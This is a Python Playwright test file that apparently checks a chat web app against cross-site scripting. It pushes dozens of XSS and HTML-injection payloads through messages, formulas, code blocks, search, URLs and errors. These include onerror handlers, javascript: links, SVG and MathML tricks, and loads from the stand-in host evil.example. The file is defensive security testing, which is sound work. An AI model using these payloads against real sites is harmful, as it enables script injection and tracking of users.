"""Hostile text, wherever text comes from: nothing runs, nothing is loaded, and the policy is never even tried."""

from __future__ import annotations

from playwright.async_api import expect

from tests.e2e.browser import Tab
from tests.e2e.conftest import OpenTab
from tests.fakes.model_server import Status, Text, Thinking, ToolCall
from tests.harness.server import RunningServer
from tests.harness.stage import Stage

EVIL = "http://evil.example"
PAYLOADS = [
    "<script>window.ran=1</script>",
    "<img src=x onerror=window.ran=1>",
    f"<img src={EVIL}/pixel.png>",
    f"![pixel]({EVIL}/pixel.png)",
    f"![pixel]({EVIL}/pixel.png 'title')",
    "![x](javascript:window.ran=1)",
    "[click](javascript:window.ran=1)",
    "[click](JaVaScRiPt:window.ran=1)",
    "[click](&#106;avascript:window.ran=1)",
    "[click](java\tscript:window.ran=1)",
    "[click](data:text/html,<script>window.ran=1</script>)",
    "[click](vbscript:msgbox)",
    "<javascript:window.ran=1>",
    "<svg onload=window.ran=1>",
    "<svg><script>window.ran=1</script></svg>",
    "<svg><animate onbegin=window.ran=1 attributeName=x dur=1s>",
    "<math><mtext><table><mglyph><style><img src=x onerror=window.ran=1>",
    "<math href='javascript:window.ran=1'>click</math>",
    f"<style>@import '{EVIL}/style.css';</style>",
    f"<div style='background:url({EVIL}/back.png)'>styled</div>",
    f"<link rel=stylesheet href={EVIL}/style.css>",
    f"<iframe src={EVIL}></iframe>",
    "<iframe srcdoc='<script>parent.ran=1</script>'></iframe>",
    f"<object data={EVIL}></object><embed src={EVIL}>",
    f"<form action={EVIL}><input name=q><button formaction=javascript:window.ran=1>go</button></form>",
    f"<base href={EVIL}/>",
    f"<meta http-equiv=refresh content='0;url={EVIL}'>",
    f"<video src={EVIL}/v.mp4 autoplay></video><audio src={EVIL}/a.mp3 autoplay></audio>",
    "<details open ontoggle=window.ran=1>opened</details>",
    "<input autofocus onfocus=window.ran=1>",
    "<a id=netra href=x><a id=netra name=cursor>clobbered</a></a>",
    "<noscript><p title='</noscript><img src=x onerror=window.ran=1>'></noscript>",
    "<template><img src=x onerror=window.ran=1></template>",
    "`` `<img src=x onerror=window.ran=1>` ``",
    '```html"onmouseover=window.ran=1\n<img src=x onerror=window.ran=1>\n```',
    '```"><img/src=x/onerror=window.ran=1>\ncode\n```',
    "| <img src=x onerror=window.ran=1> |\n|---|\n| [x](javascript:window.ran=1) |",
    f"[ref]: {EVIL}/pixel.png\n\n![a picture][ref]",
    f'[x]({EVIL}/"onmouseover="window.ran=1)',
    "<xmp><p title='</xmp><img src=x onerror=window.ran=1>'>",
    "\u202e<img src=x onerror=window.ran=1>\u202c",
    "<sCrIpT sRc=//evil.example/x.js></ScRiPt>",
]
FORMULAS = [
    r"\(\href{javascript:window.ran=1}{x}\)",
    r"$\url{javascript:window.ran=1}$",
    rf"\(\includegraphics{{{EVIL}/pixel.png}}\)",
    r"$$\htmlData{onclick=window.ran=1}{x}$$",
    r"\[\htmlStyle{background:url(http://evil.example/a)}{x}\]",
    r"\(\htmlClass{a\" onmouseover=\"window.ran=1}{x}\)",
    r"$\text{<img src=x onerror=window.ran=1>}$",
    r"\(<script>window.ran=1</script>\)",
    r"$x_{<svg onload=window.ran=1>}$",
    r"\(\def\a{\a\a}\a\)",
    r"\(\gdef\x{<img src=x onerror=window.ran=1>}\x\)",
    r"$$\unicode{x3C}script\unicode{x3E}$$",
    "```math\n\\href{javascript:window.ran=1}{x}\n```",
    "```formula\n</annotation><img src=x onerror=window.ran=1>\n```",
    r"\(\rule{1000000em}{1000000em}\)",
]
"""Formulas are drawn by a library that knows links, pictures, macros and styles."""

LANGUAGES = ["python", "javascript", "html", "css", "php", "sql", "bash", "json", "yaml", "xml", "diff", "java"]
CODE = [
    f"```{language}\n{line}\n```"
    for language, line in zip(
        LANGUAGES * 2,
        [
            "'<img src=x onerror=window.ran=1>' # </span><script>window.ran=1</script>",
            "`${'<img src=x onerror=window.ran=1>'}` // </code></pre><script>window.ran=1</script>",
            "<script>window.ran=1</script><img src=x onerror=window.ran=1><!-- --!><svg onload=window.ran=1>",
            "a { background: url(javascript:window.ran=1) } </style><script>window.ran=1</script>",
            "<?php echo '<img src=x onerror=window.ran=1>'; ?><script>window.ran=1</script>",
            "SELECT '<img src=x onerror=window.ran=1>' -- <script>window.ran=1</script>",
        ]
        * 4,
        strict=True,
    )
] + [
    "```__proto__\n<img src=x onerror=window.ran=1>\n```",
    "```constructor\n<img src=x onerror=window.ran=1>\n```",
    '```javascript"onclick=window.ran=1\nx\n```',
    "```python <img src=x onerror=window.ran=1>\nx = '<svg onload=window.ran=1>'\n```",
    "~~~html\n```\n<img src=x onerror=window.ran=1>\n~~~",
    "- ```html\n  <img src=x onerror=window.ran=1>\n  ```\n- b\n- c\n- <img src=x onerror=window.ran=1>\n- d\n",
    "```mermaid\ngraph TD; A[<img src=x onerror=window.ran=1>]-->B; click A 'javascript:window.ran=1'\n```",
]
"""Code is coloured, piece by piece, and appended to while it is written."""

SAFE_SCHEMES = ["http:", "https:", "mailto:"]


async def harmless(tab: Tab, where: str) -> None:
    """Nothing ran, and nothing on the page could."""
    assert await tab.page.evaluate("() => window.ran") is None, where
    found = await tab.page.evaluate(
        """(schemes) => [...document.querySelectorAll('#app *')].flatMap((element) => [
            ...['SCRIPT', 'IFRAME', 'OBJECT', 'EMBED', 'LINK', 'STYLE', 'IMG', 'VIDEO', 'AUDIO', 'BASE', 'META',
                'TEMPLATE', 'MATH'].filter((name) => element.tagName === name),
            ...[...element.attributes].filter((each) => each.name.startsWith('on')).map((each) => each.name),
            ...(element instanceof HTMLAnchorElement && !schemes.includes(element.protocol) ? [element.outerHTML] : []),
        ])""",
        SAFE_SCHEMES,
    )
    assert found == [], where


def test_there_are_enough_payloads() -> None:
    assert len(set(PAYLOADS)) >= 25


async def test_in_answers_thoughts_and_tool_results(stage: Stage, open_tab: OpenTab) -> None:
    tab = await open_tab(stage.server.url, stage.alice)
    for number, payload in enumerate(PAYLOADS):
        pieces = [Text(payload[start : start + 7]) for start in range(0, len(payload), 7)]
        said = stage.script(
            [Thinking(payload), ToolCall("look", {"at": payload})],
            pieces,
        )
        await tab.say(said)
        await expect(tab.turns.last).to_contain_text(said)
        await tab.state("completed")
        for summary in await tab.turns.last.locator("summary").all():
            await summary.click()
        for link in await tab.answer.locator("a").all():
            assert (await link.get_attribute("rel")) == "noopener noreferrer"
        await harmless(tab, f"payload {number}: {payload}")
        assert tab.trouble == [], payload
    # The same once more from the store, drawn whole.
    await tab.page.reload()
    await tab.ready()
    await tab.state("completed")
    await harmless(tab, "after a reload")


async def test_in_formulas_and_coloured_code(stage: Stage, open_tab: OpenTab) -> None:
    tab = await open_tab(stage.server.url, stage.alice)
    for number, payload in enumerate([*FORMULAS, *CODE]):
        pieces = [Text(payload[start : start + 5]) for start in range(0, len(payload), 5)]
        said = stage.script([*pieces, Text("\n\nthe end")])
        await tab.say(said)
        await expect(tab.turns.last).to_contain_text(said)
        await tab.state("completed")
        await expect(tab.answer).to_contain_text("the end")
        await harmless(tab, f"payload {number}: {payload}")
        assert await tab.page.evaluate(FORMULAS_ARE_PLAIN) == [], payload
        assert tab.trouble == [], payload
    await tab.page.reload()
    await tab.ready()
    await tab.state("completed")
    await harmless(tab, "after a reload")
    assert await tab.page.evaluate(FORMULAS_ARE_PLAIN) == []


FORMULAS_ARE_PLAIN = """() => [...document.querySelectorAll('.formula :not(.katex)')].flatMap((element) => [
    ...(element.namespaceURI === 'http://www.w3.org/1998/Math/MathML' ? [] : [element.outerHTML]),
    ...[...element.attributes].filter(({ name }) => /^(on|href|src|style|xlink)/.test(name)).map(({ name }) => name),
])"""


async def test_in_hits_marks_and_addresses(server: RunningServer, open_tab: OpenTab) -> None:
    """What is searched for is shown too, and stands in the address that one may be given by anybody."""
    alice = await server.person()
    tab = await open_tab(server.url, alice)
    payloads = [*PAYLOADS, *FORMULAS]
    async with server.http(alice) as http:
        thread = (
            await http.post("/api/threads", json={"title": "<b>marzipan</b> <img src=x onerror=window.ran=1>"})
        ).json()
        for number, payload in enumerate(payloads):
            body = {"text": f"marzipan {payload} marzipan", "client_message_id": str(number), "when_busy": "queue"}
            (await http.post(f"/api/threads/{thread['id']}/messages", json=body)).raise_for_status()
            await server.services.agents.wait_until_ended(alice.user_id, thread["id"])
    for query in ("marzipan", "marzipan onerror", "<img src=x onerror=window.ran=1>", "window ran"):
        search = tab.page.get_by_role("searchbox", name="Search your conversations")
        await search.fill(query)
        hits = tab.page.get_by_role("list", name="Messages found").get_by_role("link")
        await expect(hits.first.locator("mark").first).to_be_visible()
        await harmless(tab, f"hits of {query}")
        await hits.last.click()
        await expect(tab.page.get_by_role("search").get_by_role("status")).to_contain_text("of")
        await harmless(tab, f"found: {query}")
    for path in (
        f"/t/{thread['id']}?find=%3Cimg%20src%3Dx%20onerror%3Dwindow.ran%3D1%3E&message=%3Csvg%20onload%3Dwindow.ran%3D1%3E",
        "/t/%3Cimg%20src%3Dx%20onerror%3Dwindow.ran%3D1%3E",
        "/t/%25zz?find=x",
        "/t/javascript:window.ran=1?find=javascript:window.ran=1",
    ):
        tab.expected.append("status of 404")
        await tab.open(path)
        await tab.ready()
        await harmless(tab, path)


async def test_in_messages_titles_and_search(server: RunningServer, open_tab: OpenTab) -> None:
    alice = await server.person()
    tab = await open_tab(server.url, alice)
    async with server.http(alice) as http:
        for payload in PAYLOADS:
            thread = (await http.post("/api/threads", json={"title": payload})).raise_for_status().json()
            body = {"text": payload, "client_message_id": thread["id"]}
            (await http.post(f"/api/threads/{thread['id']}/messages", json=body)).raise_for_status()
    await expect(tab.threads).to_have_count(len(PAYLOADS))
    await harmless(tab, "titles")
    for number in range(len(PAYLOADS)):
        await tab.threads.nth(number).click()
        await expect(tab.page.locator(".thread").nth(number)).to_have_class("thread current")
        await expect(tab.turns).to_have_count(1)
        await harmless(tab, f"thread {number}")
    search = tab.page.get_by_role("searchbox", name="Search your conversations")
    for word in ("onerror", "javascript", "evil"):
        await search.fill(word)
        await expect(tab.page.get_by_role("list", name="Messages found").get_by_role("link").first).to_be_visible()
        await harmless(tab, f"search for {word}")


async def test_in_errors(stage: Stage, open_tab: OpenTab) -> None:
    tab = await open_tab(stage.server.url, stage.alice)
    for payload in PAYLOADS[:8]:
        said = stage.script([ToolCall("fail", {"why": payload})], [Status(400, {"error": {"message": payload}})])
        await tab.say(said)
        await expect(tab.turns.last).to_contain_text(said)
        await tab.state("failed")
        await harmless(tab, f"error {payload}")


async def test_the_policy_itself_holds(stage: Stage, open_tab: OpenTab) -> None:
    """That nothing was reported means something only if a breach would have been."""
    tab = await open_tab(stage.server.url, stage.alice)
    await tab.page.evaluate(
        """() => {
            try { document.body.insertAdjacentHTML('beforeend', '<img src=x onerror=window.ran=1>'); } catch {}
            const script = document.createElement('img');
            script.src = 'http://evil.example/pixel.png';
            document.body.append(script);
        }"""
    )

    async def reported() -> bool:
        told = " ".join(tab.trouble)
        return "require-trusted-types-for" in told and "img-src http://evil.example" in told

    await tab.until(reported, "reports of both breaches")
    assert await tab.page.evaluate("() => window.ran") is None
    tab.trouble.clear()
